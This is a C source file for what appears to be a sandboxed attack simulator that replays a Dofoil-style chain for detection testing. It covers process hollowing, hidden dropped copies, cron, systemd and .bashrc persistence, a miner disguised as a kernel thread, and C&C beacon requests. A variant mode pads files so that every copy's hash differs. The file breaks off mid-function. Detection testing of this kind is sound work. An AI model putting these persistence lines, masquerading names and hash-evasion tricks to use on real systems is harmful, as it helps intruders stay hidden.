/* vigil_sim.c - a harmless attack simulator: the Linux form of the Dofoil chain (hollow, drop, persist, miner, cnc) run inside a private mount and network namespace. */
/*
 * See docs/simulator.md. Output is JSON lines on stdout, one per event;
 * diagnostics go to stderr. The parsers (stage list, DNS query) come first
 * and are also compiled by tests/fuzz/fuzz_sim.c with VIGIL_SIM_PARSERS_ONLY.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

/* ---- parsers (fuzzed) ---------------------------------------------------- */

enum {
	ST_HOLLOW = 1u << 0,
	ST_DROP = 1u << 1,
	ST_PERSIST = 1u << 2,
	ST_MINER = 1u << 3,
	ST_CNC = 1u << 4,
	ST_ALL = 0x1f,
};

static const char *const stage_names[] = { "hollow", "drop", "persist", "miner", "cnc" };
#define NSTAGES 5

/*
 * Parses a comma-separated stage list ("hollow,cnc" or "all") of len bytes
 * into a bit set. Returns 0, or -1 with err (errlen bytes) naming the bad
 * name and its byte position.
 */
static int parse_stages(const char *s, size_t len, unsigned *out, char *err, size_t errlen)
{
	unsigned set = 0;
	size_t i = 0;

	if (len == 0) {
		snprintf(err, errlen, "empty stage list");
		return -1;
	}
	while (i <= len) {
		size_t start = i;
		while (i < len && s[i] != ',')
			i++;
		size_t n = i - start;
		int found = -1;
		for (int k = 0; k < NSTAGES; k++)
			if (strlen(stage_names[k]) == n && memcmp(s + start, stage_names[k], n) == 0)
				found = k;
		if (found >= 0)
			set |= 1u << found;
		else if (n == 3 && memcmp(s + start, "all", 3) == 0)
			set |= ST_ALL;
		else {
			snprintf(err, errlen, "unknown stage '%.*s' at position %zu (known: all,hollow,drop,persist,miner,cnc)",
				 (int)(n > 32 ? 32 : n), s + start, start + 1);
			return -1;
		}
		i++; /* past the comma (or past the end) */
	}
	*out = set;
	return 0;
}

/* A DNS question as the stub resolver understands it. */
struct dns_query {
	uint16_t id;
	uint16_t flags;
	uint16_t qtype;
	uint16_t qclass;
	size_t question_end; /* offset just past the question section */
	char name[256];      /* dotted, lower-cased, no trailing dot */
};

/*
 * Parses one DNS query message (header plus exactly one question, no name
 * compression in the question). Returns 0, or -1 with err naming the reason
 * and byte offset. Never reads past len.
 */
static int dns_parse_query(const uint8_t *p, size_t len, struct dns_query *q, char *err, size_t errlen)
{
	size_t off = 12, nlen = 0;

	if (len < 12) {
		snprintf(err, errlen, "message of %zu bytes is shorter than the 12-byte header", len);
		return -1;
	}
	q->id = (uint16_t)(p[0] << 8 | p[1]);
	q->flags = (uint16_t)(p[2] << 8 | p[3]);
	if (q->flags & 0x8000) {
		snprintf(err, errlen, "byte 2: QR bit set, this is a response, not a query");
		return -1;
	}
	if ((p[4] << 8 | p[5]) != 1) {
		snprintf(err, errlen, "byte 4: question count %d, expected 1", p[4] << 8 | p[5]);
		return -1;
	}
	for (;;) {
		if (off >= len) {
			snprintf(err, errlen, "byte %zu: name runs past the end of the message", off);
			return -1;
		}
		uint8_t l = p[off];
		if (l == 0) {
			off++;
			break;
		}
		if (l & 0xc0) {
			snprintf(err, errlen, "byte %zu: compressed or reserved label type 0x%02x in the question", off, l);
			return -1;
		}
		if (off + 1 + l > len) {
			snprintf(err, errlen, "byte %zu: label of %u bytes runs past the end of the message", off, l);
			return -1;
		}
		if ((nlen ? nlen + 1 : 0) + l > 253) {
			snprintf(err, errlen, "byte %zu: name longer than 253 characters", off);
			return -1;
		}
		if (nlen)
			q->name[nlen++] = '.';
		for (unsigned k = 0; k < l; k++) {
			uint8_t c = p[off + 1 + k];
			if (c == 0 || c == '.') {
				snprintf(err, errlen, "byte %zu: NUL or '.' inside a label", off + 1 + k);
				return -1;
			}
			q->name[nlen++] = (char)(c >= 'A' && c <= 'Z' ? c + 32 : c);
		}
		off += 1u + l;
	}
	q->name[nlen] = '\0';
	if (off + 4 > len) {
		snprintf(err, errlen, "byte %zu: question type and class missing", off);
		return -1;
	}
	q->qtype = (uint16_t)(p[off] << 8 | p[off + 1]);
	q->qclass = (uint16_t)(p[off + 2] << 8 | p[off + 3]);
	q->question_end = off + 4;
	return 0;
}

/*
 * Builds the stub's answer to q (parsed from msg): the header and question
 * copied back, and for an IN A question one A record with addr (network
 * order bytes). Returns the reply length, or 0 when out (cap bytes) is too
 * small.
 */
static size_t dns_build_reply(const uint8_t *msg, const struct dns_query *q, const uint8_t addr[4],
			      uint8_t *out, size_t cap)
{
	int answer = q->qtype == 1 && q->qclass == 1;
	size_t need = q->question_end + (answer ? 16 : 0);

	if (need > cap || q->question_end < 12)
		return 0;
	memcpy(out, msg, q->question_end);
	out[2] = (uint8_t)(0x80 | (msg[2] & 0x79)); /* QR, opcode and RD kept */
	out[3] = 0x80;                               /* RA, NOERROR */
	out[6] = 0;
	out[7] = (uint8_t)answer; /* ANCOUNT */
	memset(out + 8, 0, 4);    /* NSCOUNT, ARCOUNT */
	if (answer) {
		uint8_t *a = out + q->question_end;
		const uint8_t rr[16] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, addr[0], addr[1], addr[2], addr[3] };
		memcpy(a, rr, sizeof(rr));
	}
	return need;
}

#ifndef VIGIL_SIM_PARSERS_ONLY

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <limits.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <pwd.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "vigil/buf.h"

#define SIM_DIR "/tmp/.vigil-sim"   /* inside the private /tmp: marker, resolv.conf */
#define BURN_MS_MAX 2000
#define MAX_SECONDS_MAX 3600
#define DONE_FD 3

static const uint8_t answer_addr[4] = { 127, 0, 0, 2 };

/* Everything the run will do, decided from the seed before anything is done. */
struct plan {
	uint64_t seed;
	int benign;
	unsigned stages;
	int burn_ms, threads, max_seconds, keep_alive;
	int pause_ms[NSTAGES];
	char user[32], cron_user[64], home[64];
	char hollow_path[32], hollow_arg[16];
	char drop_dir[160], drop_path[224];
	char cron_path[160], cron_line[320];
	char unit_name[64], unit_path[224], unit_wants[288], unit_text[640];
	char rc_path[160], rc_line[320];
	char miner_path[224], miner_argv0[32], miner_comm[16];
	int pool_port;
	char pool_payload[512];
	char cnc_name[128];
	/* --variant: a polymorphic family member (docs/simulator.md, "Variants") */
	int variant;               /* 1 when --variant gave the seed */
	const char *family;        /* "Dofoil", "CronStager", "RevShell"; NULL without --variant */
	unsigned persist_kinds;    /* PK_* bits the persist stage writes */
	unsigned pad_bytes, pad_text; /* bytes appended to every dropped copy; text-like (1) or random (0) */
	char agent_role[8];        /* "miner", "beacon" or "shell": what the started copy does */
	char agent_args[3][48];    /* extra command-line arguments of the started copy ("" = none) */
	char beacon_request[320];  /* beacon: the HTTP request line it sends */
	char install_dir[96], install_name[48]; /* --install-copy: where the loader's own copy goes */
};

enum { PK_CRON = 1, PK_SYSTEMD = 2, PK_SHELL_RC = 4 };

/* ---- randomness from the seed ---- */

static void make_variant(struct plan *p);

static uint64_t rng_state;

static uint64_t rng_next(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ull);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static unsigned rng_below(unsigned n)
{
	return (unsigned)(rng_next() % n);
}

#define PICK(arr) (arr[rng_below(sizeof(arr) / sizeof(arr[0]))])

static void rng_chars(char *out, size_t n, const char *alphabet)
{
	size_t a = strlen(alphabet);
	for (size_t i = 0; i < n; i++)
		out[i] = alphabet[rng_below((unsigned)a)];
	out[n] = '\0';
}

/* ---- output: one JSON object per line, written with one write() ---- */

struct line {
	struct vg_buf b;
	int first;
};

static void line_begin_nopid(struct line *l, const char *stage, const char *event)
{
	memset(l, 0, sizeof(*l));
	l->first = 1;
	vg_buf_puts(&l->b, "{");
	vg_buf_json_kv(&l->b, &l->first, "stage", stage);
	vg_buf_json_kv(&l->b, &l->first, "event", event);
}

static void line_begin(struct line *l, const char *stage, const char *event)
{
	memset(l, 0, sizeof(*l));
	l->first = 1;
	vg_buf_puts(&l->b, "{");
	vg_buf_json_kv(&l->b, &l->first, "stage", stage);
	vg_buf_json_kv(&l->b, &l->first, "event", event);
	vg_buf_json_ki(&l->b, &l->first, "pid", getpid());
}

static void line_end(struct line *l)
{
	vg_buf_puts(&l->b, "}\n");
	if (!l->b.oom) {
		size_t off = 0;
		while (off < l->b.len) {
			ssize_t n = write(1, l->b.p + off, l->b.len - off);
			if (n < 0 && errno == EINTR)
				continue;
			if (n <= 0)
				break;
			off += (size_t)n;
		}
	}
	vg_buf_free(&l->b);
}

static int stage_failed;

static void emit_error(const char *stage, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void emit_error(const char *stage, const char *fmt, ...)
{
	char msg[512];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	struct line l;
	line_begin(&l, stage, "error");
	vg_buf_json_kv(&l.b, &l.first, "error", msg);
	line_end(&l);
	fprintf(stderr, "vigil_sim: %s: %s\n", stage, msg);
	stage_failed = 1;
}

/* ---- the plan ---- */

static void make_plan(struct plan *p)
{
	static const char *const users[] = { "alice", "bob", "carol", "dave", "erin", "frank" };
	static const char *const bad_names[] = { "dbus-daemon", "sshd", "systemd-logind", "kdevtmpfsi", "crond", "rsyslogd" };
	static const char *const good_names[] = { "backup-sync", "notes-indexer", "photo-thumbs", "feed-reader" };
	static const char *const bad_dirs[] = { ".cache", ".local/share", ".config" };
	static const char *const bad_units[] = { "dbus-broker-helper", "pulse-sync", "gvfs-update", "tracker-extract" };
	static const char *const kthreads[] = { "[kworker/0:1]", "[kworker/1:2]", "[kworker/u8:3]", "[ksoftirqd/0]",
						"[kswapd0]", "[kthreadd]" };
	static const int pool_ports[] = { 3333, 4444, 5555, 7777, 14444, 45700 };
	static const int benign_ports[] = { 8000, 8080, 5000 };
	static const char *const hollow_bins[] = { "/usr/bin/sleep", "/usr/bin/tail", "/usr/bin/cat" };
	static const char *const b58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
	char hex[9], label[16], wallet[96];
	struct passwd *pw = getpwuid(geteuid());

	rng_state = p->seed;
	snprintf(p->user, sizeof(p->user), "%s%03u", PICK(users), rng_below(1000));
	snprintf(p->home, sizeof(p->home), "/home/%s", p->user);
	snprintf(p->cron_user, sizeof(p->cron_user), "%s", pw ? pw->pw_name : "root");
	for (int i = 0; i < NSTAGES; i++)
		p->pause_ms[i] = 10 + (int)rng_below(140);

	snprintf(p->hollow_path, sizeof(p->hollow_path), "%s", PICK(hollow_bins));
	snprintf(p->hollow_arg, sizeof(p->hollow_arg), "%u", 20 + rng_below(40));

	rng_chars(hex, 8, "0123456789abcdef");
	const char *name = p->benign ? PICK(good_names) : PICK(bad_names);
	if (p->benign)
		snprintf(p->drop_dir, sizeof(p->drop_dir), "%s/.local/bin", p->home);
	else
		snprintf(p->drop_dir, sizeof(p->drop_dir), "%s/%s/.%s", p->home, PICK(bad_dirs), hex);
	snprintf(p->drop_path, sizeof(p->drop_path), "%s/%s", p->drop_dir, name);

	/* Persistence: the attack points at the dropped copy, the benign form at a system program. */
	const char *target = p->benign ? "/usr/bin/true" : p->drop_path;
	snprintf(p->cron_path, sizeof(p->cron_path), "/var/spool/cron/crontabs/%s", p->cron_user);
	if (p->benign)
		snprintf(p->cron_line, sizeof(p->cron_line), "%u 3 * * * %s", rng_below(60), target);
	else
		snprintf(p->cron_line, sizeof(p->cron_line), "*/%u * * * * %s >/dev/null 2>&1", 5 + 5 * rng_below(6),
			 target);
	snprintf(p->unit_name, sizeof(p->unit_name), "%s.service", p->benign ? name : PICK(bad_units));
	snprintf(p->unit_path, sizeof(p->unit_path), "%s/.config/systemd/user/%s", p->home, p->unit_name);
	snprintf(p->unit_wants, sizeof(p->unit_wants), "%s/.config/systemd/user/default.target.wants/%s", p->home,
		 p->unit_name);
	snprintf(p->unit_text, sizeof(p->unit_text),
		 "[Unit]\nDescription=%s\n\n[Service]\nExecStart=%s\nRestart=%s\n\n[Install]\nWantedBy=default.target\n",
		 p->benign ? "Nightly no-op" : "D-Bus session helper", target, p->benign ? "no" : "always");
	snprintf(p->rc_path, sizeof(p->rc_path), "%s/.bashrc", p->home);
	if (p->benign)
		snprintf(p->rc_line, sizeof(p->rc_line), "%s", target);
	else
		snprintf(p->rc_line, sizeof(p->rc_line), "%s >/dev/null 2>&1 &", target);

	/* The miner: a copy of the program started from /dev/shm under a kernel thread's name. */
	if (p->benign) {
		snprintf(p->miner_path, sizeof(p->miner_path), "%s", p->drop_path);
		snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", name);
		snprintf(p->miner_comm, sizeof(p->miner_comm), "%.15s", name);
		p->pool_port = PICK(benign_ports);
		snprintf(p->pool_payload, sizeof(p->pool_payload),
			 "{\"jsonrpc\":\"2.0\",\"id\":%u,\"method\":\"status\",\"params\":{}}\n", 1 + rng_below(9));
	} else {
		rng_chars(hex, 8, "0123456789abcdef");
		snprintf(p->miner_path, sizeof(p->miner_path), "/dev/shm/.%s", hex);
		const char *kt = PICK(kthreads);
		snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", kt);
		snprintf(p->miner_comm, sizeof(p->miner_comm), "%.*s", (int)(strlen(kt) - 2 > 15 ? 15 : strlen(kt) - 2),
			 kt + 1);
		p->pool_port = PICK(pool_ports);
		wallet[0] = '4';
		rng_chars(wallet + 1, 94, b58);
		if (rng_below(2))
			snprintf(p->pool_payload, sizeof(p->pool_payload),
				 "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\",\"pass\":\"x\","
				 "\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\"]}}\n",
				 wallet);
		else
			snprintf(p->pool_payload, sizeof(p->pool_payload),
				 "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer-opt/3.23.1\"]}\n"
				 "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"%.40s\",\"x\"]}\n",
				 wallet);
	}
	p->burn_ms = p->burn_ms ? p->burn_ms : 200 + (int)rng_below(200);
	long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
	p->threads = ncpu < 1 ? 1 : ncpu > 8 ? 8 : (int)ncpu;

	rng_chars(label, 6 + rng_below(6), "abcdefghijklmnopqrstuvwxyz0123456789");
	if (p->benign)
		snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.home.arpa", label);
	else
		snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.bit", label);
	p->persist_kinds = PK_CRON | PK_SYSTEMD | PK_SHELL_RC;
	snprintf(p->agent_role, sizeof(p->agent_role), "miner");
	if (p->variant && !p->benign)
		make_variant(p);
}

/* Text-like padding: words a program's data section might hold (lower entropy than random bytes). */
static const char *const pad_words[] = { "config", "update", "server", "client", "session", "token",
					 "buffer", "thread", "socket", "payload", "version", "module" };

/*
 * --variant: the seed also decides the family, which stages run, every name,
 * folder, argument, C&C name and port, the persistence kinds and the padding
 * appended to each dropped copy, so that variants differ as polymorphic
 * malware does (distinct hashes), while the same seed gives the same run.
 */
static void make_variant(struct plan *p)
{
	static const char *const families[] = { "Dofoil", "CronStager", "RevShell" };
	static const char *const names[] = { "dbus-daemon", "sshd", "systemd-logind", "kdevtmpfsi", "crond",
					     "rsyslogd", "kthreaddi", "sysupdate", "networkservice", "php-fpm",
					     "watchdogd", "auditd", "polkitd", "atd", "irqbalance" };
	static const char *const dirs[] = { "%s/.cache/.%s", "%s/.local/share/.%s", "%s/.config/.%s", "%s/.%s",
					    "/tmp/.%2$s", "/var/tmp/.%2$s", "/dev/shm/.%2$s" };
	static const char *const tlds[] = { "bit", "top", "xyz", "ru", "pw", "cc", "tk", "su" };
	static const char *const pool_ports[] = { "3333", "4444", "5555", "7777", "14444", "45700", "3334", "9999",
						  "10128", "13333", "5556", "8888" };
	static const int beacon_ports[] = { 80, 443, 8080, 8443, 8000, 8081, 2083, 1604 };
	static const int shell_ports[] = { 4444, 1337, 9001, 31337, 443, 5555, 6666, 1234, 8443 };
	static const char *const uris[] = { "/gate.php", "/api/v1/task", "/update", "/images/logo.gif",
					    "/wp-content/upd.php", "/cdn/stats", "/c2/poll", "/admin/get.php" };
	static const char *const flags[] = { "-d", "--daemon", "-q", "--no-log", "-b", "--silent", "-c", "-k",
					     "--config", "-p" };
	char hex[9], label[16], uri_id[13];

	rng_state = p->seed ^ 0x5eedfacecafef00dull; /* its own stream: the base plan stays as it was */
	p->family = families[p->seed % 3];
	/* a folder and a name for the dropped copy */
	rng_chars(hex, 4 + rng_below(5), "0123456789abcdef");
	const char *dfmt = PICK(dirs);
	snprintf(p->drop_dir, sizeof(p->drop_dir), dfmt, p->home, hex);
	char name[32];
	if (rng_below(4) == 0)
		rng_chars(name, 5 + rng_below(6), "abcdefghijklmnopqrstuvwxyz0123456789");
	else
		snprintf(name, sizeof(name), "%s", PICK(names));
	snprintf(p->drop_path, sizeof(p->drop_path), "%s/%s", p->drop_dir, name);
	/* the loader's own installed copy (--install-copy) */
	rng_chars(hex, 6, "0123456789abcdef");
	static const char *const inst_dirs[] = { "/tmp/.%s", "/var/tmp/.%s", "/var/lib/.%s", "/root/.cache/.%s" };
	snprintf(p->install_dir, sizeof(p->install_dir), PICK(inst_dirs), hex);
	if (rng_below(3) == 0)
		rng_chars(p->install_name, 6 + rng_below(5), "abcdefghijklmnopqrstuvwxyz");
	else
		snprintf(p->install_name, sizeof(p->install_name), "%s", PICK(names));
	/* padding: every copy's hash differs */
	p->pad_bytes = 256 + rng_below(48 * 1024);
	p->pad_text = rng_below(2);
	/* persistence: one to three kinds pointing at the dropped copy */
	do
		p->persist_kinds = rng_below(8);
	while (!p->persist_kinds);
	/* the C&C name */
	rng_chars(label, 5 + rng_below(9), "abcdefghijklmnopqrstuvwxyz0123456789");
	snprintf(p->cnc_name, sizeof(p->cnc_name), "%s.%s", label, PICK(tlds));
	/* the started copy's arguments */
	for (int i = 0; i < 3; i++)
		p->agent_args[i][0] = '\0';
	unsigned nargs = rng_below(4);
	for (unsigned i = 0; i < nargs && i < 3; i++) {
		const char *fl = PICK(flags);
		if (strcmp(fl, "-c") == 0 || strcmp(fl, "--config") == 0) {
			rng_chars(hex, 6, "0123456789abcdef");
			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "%s=/tmp/.%s.conf", fl, hex);
		} else if (strcmp(fl, "-p") == 0) {
			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "-p%u", 1024 + rng_below(60000));
		} else {
			snprintf(p->agent_args[i], sizeof(p->agent_args[i]), "%s", fl);
		}
	}
	/* stages and what the started copy does, by family */
	if (strcmp(p->family, "Dofoil") == 0) {
		p->stages = ST_DROP | ST_MINER;
		if (rng_below(5))
			p->stages |= ST_HOLLOW;
		if (rng_below(10) < 7)
			p->stages |= ST_PERSIST;
		if (rng_below(10) < 6)
			p->stages |= ST_CNC;
		p->pool_port = atoi(PICK(pool_ports));
		snprintf(p->agent_role, sizeof(p->agent_role), "miner");
		if (rng_below(3) == 0) { /* sometimes the miner runs from the drop folder under its own name */
			rng_chars(hex, 5, "0123456789abcdef");
			snprintf(p->miner_path, sizeof(p->miner_path), "%s/.%s", p->drop_dir, hex);
			snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", name);
			snprintf(p->miner_comm, sizeof(p->miner_comm), "%.15s", name);
		} else {
			rng_chars(hex, 8, "0123456789abcdef");
			snprintf(p->miner_path, sizeof(p->miner_path), "/dev/shm/.%s", hex);
		}
	} else {
		int stager = strcmp(p->family, "CronStager") == 0;
		p->stages = ST_DROP | ST_MINER | (stager ? ST_PERSIST | ST_CNC : 0);
		if (!stager && rng_below(2))
			p->stages |= ST_PERSIST;
		if (!stager && rng_below(3) == 0)
			p->stages |= ST_CNC;
		if (stager)
			p->persist_kinds |= PK_CRON;
		snprintf(p->agent_role, sizeof(p->agent_role), "%s", stager ? "beacon" : "shell");
		p->pool_port = stager ? PICK(beacon_ports) : PICK(shell_ports);
		/* the started copy is the dropped file itself, under its own name */
		snprintf(p->miner_path, sizeof(p->miner_path), "%s", p->drop_path);
		snprintf(p->miner_argv0, sizeof(p->miner_argv0), "%s", name);
		snprintf(p->miner_comm, sizeof(p->miner_comm), "%.15s", name);
		rng_chars(uri_id, 12, "0123456789abcdef");
		snprintf(p->beacon_request, sizeof(p->beacon_request),
			 "GET %s?id=%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n", PICK(uris), uri_id,
			 p->cnc_name);
		if (!stager)
			snprintf(p->beacon_request, sizeof(p->beacon_request), "%s", "");
	}
	p->threads = 1;
	p->burn_ms = 50 + (int)rng_below(100);
}

/* Appends the variant's padding to path (a fresh copy): n bytes from the seed, random or text-like. */
static int pad_file(const struct plan *p, const char *path, unsigned salt)
{
	if (!p->pad_bytes)
		return 0;
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	uint64_t saved = rng_state;
	rng_state = p->seed * 31 + salt;
	char buf[4096];
	unsigned left = p->pad_bytes + salt * 97, n = 0;
	int rc = 0;
	while (left && !rc) {
		n = left < sizeof(buf) ? left : (unsigned)sizeof(buf);
		for (unsigned i = 0; i < n;) {
			if (p->pad_text) {
				const char *w = PICK(pad_words);
				for (; *w && i < n; w++)
					buf[i++] = *w;
				if (i < n)
					buf[i++] = rng_below(4) ? '_' : '\0';
			} else {
				buf[i++] = (char)rng_next();
			}
		}
		if (write(fd, buf, n) != (ssize_t)n)
			rc = -EIO;
		left -= n;
	}
	rng_state = saved;
	if (close(fd) < 0 && !rc)
		rc = -errno;
	return rc;
}

static void print_plan(const struct plan *p)
{
	struct line l;
	int f;

	line_begin_nopid(&l, "plan", "plan");
	vg_buf_json_ku(&l.b, &l.first, "seed", p->seed);
	vg_buf_json_key(&l.b, &l.first, "benign");
	vg_buf_puts(&l.b, p->benign ? "true" : "false");
	vg_buf_json_key(&l.b, &l.first, "stages");
	vg_buf_puts(&l.b, "[");
	f = 1;
	for (int i = 0; i < NSTAGES; i++)
		if (p->stages & (1u << i)) {
			if (!f)
				vg_buf_puts(&l.b, ",");
			f = 0;
			vg_buf_json_str(&l.b, stage_names[i]);
		}
	vg_buf_puts(&l.b, "]");
	vg_buf_json_ki(&l.b, &l.first, "max_seconds", p->max_seconds);
	vg_buf_json_kv(&l.b, &l.first, "user", p->user);
	vg_buf_json_kv(&l.b, &l.first, "home", p->home);
	vg_buf_json_kv(&l.b, &l.first, "resolver", "127.0.0.1");

	vg_buf_json_key(&l.b, &l.first, "hollow");
	f = 1;
	vg_buf_puts(&l.b, "{");
	vg_buf_json_kv(&l.b, &f, "path", p->hollow_path);
	vg_buf_json_kv(&l.b, &f, "arg", p->hollow_arg);
	vg_buf_json_kv(&l.b, &f, "writes", p->benign ? "none (reads only)" : "ptrace_pokedata,process_vm_writev,proc_mem_write");
	vg_buf_puts(&l.b, "}");

	vg_buf_json_key(&l.b, &l.first, "drop");
	f = 1;
	vg_buf_puts(&l.b, "{");
	vg_buf_json_kv(&l.b, &f, "path", p->drop_path);
	vg_buf_puts(&l.b, "}");

	vg_buf_json_key(&l.b, &l.first, "persist");
	f = 1;
	vg_buf_puts(&l.b, "{");
	vg_buf_json_kv(&l.b, &f, "cron", p->cron_path);
	vg_buf_json_kv(&l.b, &f, "cron_line", p->cron_line);
	vg_buf_json_kv(&l.b, &f, "systemd", p->unit_path);
	vg_buf_json_kv(&l.b, &f, "systemd_wants", p->unit_wants);
	vg_buf_json_kv(&l.b, &f, "shell_rc", p->rc_path);
	vg_buf_json_kv(&l.b, &f, "shell_rc_line", p->rc_line);
	vg_buf_json_kv(&l.b, &f, "target", p->benign ? "/usr/bin/true" : p->drop_path);
	vg_buf_puts(&l.b, "}");

	vg_buf_json_key(&l.b, &l.first, "miner");
	f = 1;
	vg_buf_puts(&l.b, "{");
	vg_buf_json_kv(&l.b, &f, "path", p->miner_path);
	vg_buf_json_kv(&l.b, &f, "argv0", p->miner_argv0);
	vg_buf_json_kv(&l.b, &f, "comm", p->miner_comm);
	vg_buf_json_kv(&l.b, &f, "pool", "127.0.0.1");
	vg_buf_json_ki(&l.b, &f, "port", p->pool_port);
	vg_buf_json_kv(&l.b, &f, "payload", p->pool_payload);
	vg_buf_json_ki(&l.b, &f, "burn_ms", p->burn_ms);
	vg_buf_json_ki(&l.b, &f, "threads", p->threads);
	vg_buf_puts(&l.b, "}");

	vg_buf_json_key(&l.b, &l.first, "cnc");
	f = 1;
	vg_buf_puts(&l.b, "{");
	vg_buf_json_kv(&l.b, &f, "name", p->cnc_name);
	vg_buf_json_kv(&l.b, &f, "answer", "127.0.0.2");
	vg_buf_puts(&l.b, "}");

	if (p->family) {
		vg_buf_json_key(&l.b, &l.first, "variant");
		f = 1;
		vg_buf_puts(&l.b, "{");
		vg_buf_json_kv(&l.b, &f, "family", p->family);
		vg_buf_json_ku(&l.b, &f, "pad_bytes", p->pad_bytes);
		vg_buf_json_kv(&l.b, &f, "pad", p->pad_text ? "text" : "random");
		vg_buf_json_key(&l.b, &f, "persist");
		vg_buf_puts(&l.b, "[");
		int g = 1;
		static const char *const pk[] = { "cron", "systemd", "shell_rc" };
		for (int i = 0; i < 3; i++)
			if (p->persist_kinds & (1u << i)) {
				vg_buf_puts(&l.b, g ? "" : ",");
				g = 0;
				vg_buf_json_str(&l.b, pk[i]);
			}
		vg_buf_puts(&l.b, "]");
		vg_buf_json_kv(&l.b, &f, "role", p->agent_role);
		vg_buf_json_key(&l.b, &f, "args");
		vg_buf_puts(&l.b, "[");
		g = 1;
		for (int i = 0; i < 3; i++)
			if (p->agent_args[i][0]) {
				vg_buf_puts(&l.b, g ? "" : ",");
				g = 0;
				vg_buf_json_str(&l.b, p->agent_args[i]);
			}
		vg_buf_puts(&l.b, "]");
		vg_buf_json_kv(&l.b, &f, "cnc", p->cnc_name);
		vg_buf_json_ki(&l.b, &f, "port", p->pool_port);
		char inst[160];
		snprintf(inst, sizeof(inst), "%s/%s", p->install_dir, p->install_name);
		vg_buf_json_kv(&l.b, &f, "install_copy", inst);
		vg_buf_puts(&l.b, "}");
	}
	vg_buf_json_key(&l.b, &l.first, "pause_ms");
	vg_buf_puts(&l.b, "[");
	for (int i = 0; i < NSTAGES; i++)
		vg_buf_printf(&l.b, "%s%d", i ? "," : "", p->pause_ms[i]);
	vg_buf_puts(&l.b, "]");
	line_end(&l);
}

/* ---- small file helpers ---- */

static int mkdirs(const char *path, mode_t mode)
{
	char tmp[PATH_MAX];
	snprintf(tmp, sizeof(tmp), "%s", path);
	for (char *s = tmp + 1; *s; s++)
		if (*s == '/') {
			*s = '\0';
			if (mkdir(tmp, mode) < 0 && errno != EEXIST)
				return -errno;
			*s = '/';
		}
	if (mkdir(tmp, mode) < 0 && errno != EEXIST)
		return -errno;
	return 0;
}

static int write_file(const char *path, const char *text, int flags, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, mode);
	if (fd < 0)
		return -errno;
	size_t len = strlen(text), off = 0;
	while (off < len) {
		ssize_t n = write(fd, text + off, len - off);
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0) {
			int e = n < 0 ? -errno : -EIO;
			close(fd);
			return e;
		}
		off += (size_t)n;
	}
	return close(fd) < 0 ? -errno : 0;
}

/* Copies src to dst (created, mode 0700), returning the size or -errno. */
static long long copy_file(const char *src, const char *dst)
{
	char buf[65536];
	long long total = 0;
	int in = open(src, O_RDONLY | O_CLOEXEC), out;
	if (in < 0)
		return -errno;
	out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	if (out < 0) {
		int e = -errno;
		close(in);
		return e;
	}
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0) {
			total = -errno;
			break;
		}
		if (n == 0)
			break;
		if (write(out, buf, (size_t)n) != n) {
			total = -EIO;
			break;
		}
		total += n;
	}
	close(in);
	if (close(out) < 0 && total >= 0)
		total = -errno;
	return total;
}

static void ns_link(pid_t pid, const char *ns, char *out, size_t len)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/ns/%s", (int)pid, ns);
	ssize_t n = readlink(p, out, len - 1);
	out[n < 0 ? 0 : n] = '\0';
}

/*
 * True only inside the simulator's own namespaces: the mount namespace is
 * not init's, and the private /tmp holds the marker with this run's token.
 */
static int in_sandbox(void)
{
	static const char *const kinds[] = { "mnt", "net" };
	static const char *const env[] = { "VIGIL_SIM_HOST_MNTNS", "VIGIL_SIM_HOST_NETNS" };
	char self[64], init[64], tok[64] = "", *want = getenv("VIGIL_SIM_TOKEN");

	if (!want || !*want)
		return 0;
	for (int i = 0; i < 2; i++) {
		const char *host = getenv(env[i]);
		ns_link(getpid(), kinds[i], self, sizeof(self));
		ns_link(1, kinds[i], init, sizeof(init)); /* empty when pid 1 is not readable */
		if (!self[0] || !host || !host[0] || strcmp(self, host) == 0 || strcmp(self, init) == 0)
			return 0;
	}
	int fd = open(SIM_DIR "/token", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
